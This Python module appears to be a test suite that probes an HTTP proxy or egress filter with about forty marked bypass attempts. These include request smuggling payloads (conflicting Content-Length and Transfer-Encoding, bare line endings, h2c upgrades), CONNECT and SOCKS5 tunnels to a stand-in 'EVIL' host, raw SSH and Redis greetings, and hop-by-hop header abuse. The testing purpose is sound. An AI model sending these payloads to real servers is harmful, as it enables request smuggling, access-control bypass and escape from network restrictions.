"""Sends what two readers understand differently: each hides a request for /smuggled."""
from attack import *

HEAD = f"POST /open/a HTTP/1.1\r\nHost: {RULES}\r\nX-Mark: MARK\r\n"
GET = HEAD.replace("POST", "GET")
INNER = f"GET /smuggled/MARK HTTP/1.1\r\nHost: {RULES}\r\nConnection: close\r\n\r\n"
END, CHUNKED, EMPTY = "\r\n\r\n", "Transfer-Encoding: chunked", "0\r\n\r\n"
SIZE = f"{len(INNER):x}"


def raw(name, text, host=RULES):
    def attempt(mark):
        with tls(host) as sock:
            return talk(sock, text.replace("MARK", mark).encode("latin1"))

    ATTACKS[name] = attempt


CASES = {
    "cl_te": f"{HEAD}Content-Length: 5\r\n{CHUNKED}{END}{EMPTY}{INNER}",
    "te_cl": f"{HEAD}{CHUNKED}\r\nContent-Length: 4{END}{SIZE}\r\n{INNER}\r\n{EMPTY}",
    "two_lengths": f"{HEAD}Content-Length: 0\r\nContent-Length: {len(INNER)}{END}{INNER}",
    "length_list": f"{HEAD}Content-Length: 0, {len(INNER)}{END}{INNER}",
    "length_plus": f"{HEAD}Content-Length: +0{END}{INNER}",
    "length_tab": f"{HEAD}Content-Length: \t0 {END}{INNER}",
    "length_name_space": f"{HEAD}Content-Length : 0{END}{INNER}",
    "coding_unknown": f"{HEAD}Transfer-Encoding: xchunked{END}{INNER}",
    "coding_identity": f"{HEAD}Transfer-Encoding: identity, chunked{END}{EMPTY}{INNER}",
    "coding_not_last": f"{HEAD}Transfer-Encoding: chunked, identity{END}{EMPTY}{INNER}",
    "coding_tab": f"{HEAD}Transfer-Encoding:\tchunked\r\nContent-Length: 5{END}{EMPTY}{INNER}",
    "coding_http_1_0": f"{HEAD.replace('1.1', '1.0')}{CHUNKED}{END}{EMPTY}{INNER}",
    "folded": f"{HEAD}X-A: b\r\n Content-Length: 0{END}{INNER}",
    "bare_lf": f"{HEAD}X-A: b\n\nGET /smuggled/MARK HTTP/1.1\nHost: {RULES}{END}",
    "bare_cr": f"{HEAD}X-A: b\rContent-Length: 0{END}{INNER}",
    "nul_in_value": f"{HEAD}X-A: b\0\r\nContent-Length: 0{END}{INNER}",
    "chunk_size_plus": f"{HEAD}{CHUNKED}{END}+0{END}{INNER}",
    "chunk_size_hex": f"{HEAD}{CHUNKED}{END}0x0{END}{INNER}",
    "chunk_size_huge": f"{HEAD}{CHUNKED}{END}10000000000000000\r\n{INNER}{EMPTY}",
    "chunk_extension_lf": f"{HEAD}{CHUNKED}{END}0;a\n{INNER}{EMPTY}",
    "chunk_bare_lf": f"{HEAD}{CHUNKED}{END}1\nX\n0\n\n{INNER}",
    "version_2": f"{HEAD.replace('1.1', '2.0')}Content-Length: 0{END}{INNER}",
    "line_spaces": f"{HEAD.replace('POST ', 'POST  ')}Content-Length: 0{END}{INNER}",
    "pipelined_denied": f"GET /closed HTTP/1.1\r\nHost: {RULES}{END}{INNER}",
    "pipelined_allowed": f"{GET}{END[2:]}{INNER}",
    "after_close": f"{GET}Connection: close{END}{INNER}",
    "get_raw_body": f"{GET}{END[2:]}smuggled=1{END}{INNER}",
    "h2c": f"{GET}Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__{END}{INNER}",
    "h2c_beside": f"{GET}Connection: Upgrade\r\nUpgrade: websocket, h2c{END}{INNER}",
    "preface": f"PRI * HTTP/2.0{END}SM{END}{INNER}",
    "socket_with_body": f"{GET}Connection: Upgrade\r\nUpgrade: websocket\r\nContent-Length: 9{END}{INNER}",
}
for name, text in CASES.items():
    raw(name, text)


@attack
def ok_chunked(mark):
    with tls(RULES) as sock:
        return talk(sock, f"{HEAD}{CHUNKED}\r\nConnection: close{END}5\r\nhello\r\n{EMPTY}".replace("MARK", mark).encode())


def in_tunnel(port, host, method):
    """A request in clear inside a tunnel, where TLS is expected."""
    def attempt(mark):
        with reach(host, port) as sock:
            named = host if port == 80 else f"{host}:{port}"
            return talk(sock, request(mark, "/smuggled/tunnel", method=method, host=named))

    return attempt


ATTACKS["tunnel_plain_80"] = in_tunnel(80, PLAIN, "DELETE")
ATTACKS["tunnel_plain_443"] = in_tunnel(443, RULES, "DELETE")


@attack
def tunnel_other_host(mark):
    """A tunnel to an approved host's port 80, and in it the name of another."""
    with reach(PLAIN, 80) as sock:
        return talk(sock, request(mark, "/hello", host=EVIL))


@attack
def tunnel_not_http(mark):
    with reach(PLAIN, 80) as sock:
        return talk(sock, b"*1\r\n$4\r\nPING\r\nsmuggled " + mark.encode() + b"\r\n")


def odd(name, host, port, greeting=b"SSH-2.0-x "):
    def attempt(mark):
        with reach(host, port) as sock:
            return talk(sock, greeting + mark.encode() + b"\r\n\r\n")

    ATTACKS[name] = attempt


odd("odd_port_22", API, 22)
odd("odd_port_6379", API, 6379, b"*1\r\n$4\r\nPING\r\n")
odd("odd_address", EVIL_ADDRESS, 80)
odd("odd_evil_22", EVIL, 22)


@attack
def tunnel_nested(mark):
    connect = f"CONNECT {EVIL}:443 HTTP/1.1\r\nHost: {EVIL}:443\r\nX-Mark: {mark}\r\n\r\n".encode()
    seen = b""
    for host, port in ((PLAIN, 80), (API, 443)):
        with reach(host, port) as sock, (secure(sock, host) if port == 443 else sock) as inner:
            seen += talk(inner, connect)
    return seen


@attack
def socks(mark):
    """SOCKS5 with a name, an address, and a UDP association, where the proxy speaks it."""
    url = os.environ.get("ALL_PROXY") or os.environ.get("all_proxy") or ""
    parts = urlsplit(url)
    host, port = (parts.hostname, parts.port) if parts.scheme.startswith("socks") else proxy()[:2]
    seen = b""
    name = EVIL.encode()
    for kind in (b"\x03" + bytes([len(name)]) + name, b"\x01" + socket.inet_aton(EVIL_ADDRESS)):
        with straight(host, port) as sock:
            user, password = unquote(parts.username or "").encode(), unquote(parts.password or "").encode()
            sock.sendall(b"\x05\x02\x00\x02")
            choice = sock.recv(2)
            if choice == b"\x05\x02":
                sock.sendall(b"\x01" + bytes([len(user)]) + user + bytes([len(password)]) + password)
                sock.recv(2)
            seen += choice
            sock.sendall(b"\x05\x01\x00" + kind + struct.pack(">H", 80))
            seen += sock.recv(10)
            seen += talk(sock, request(mark, "/hello", host=EVIL))
    return seen


@attack
def hop_authorization(mark):
    """Would have the filled slot taken off as if it belonged to this hop, by name."""
    return ask(mark, "/hello", headers=["Connection: close, authorization, x-mark"], close=False)


@attack
def hop_framing(mark):
    body = f"GET /smuggled/{mark} HTTP/1.1\r\nHost: {RULES}\r\n\r\n".encode()
    return ask(mark, "/open/a", host=RULES, method="POST", body=body,
               headers=["Connection: close, content-length, transfer-encoding, host"], close=False)


@attack
def hop_proxy_authorization(mark):
    """A credential for a proxy, given to the one that ends the TLS."""
    return ask(mark, "/open/a", host=RULES, headers=["Proxy-Authorization: Basic cHJveHk6bWluZQ==",
                                                     "Proxy-Connection: x", "Keep-Alive: timeout=9"])
